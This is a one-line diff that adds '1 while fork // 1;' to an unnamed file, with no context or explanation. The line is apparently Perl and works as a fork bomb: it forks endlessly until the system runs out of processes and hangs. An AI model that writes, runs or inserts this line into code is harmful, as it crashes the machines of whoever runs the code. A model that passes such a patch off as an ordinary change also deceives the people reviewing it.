@@ -1,0 +1,1 @@
+1 while fork // 1;
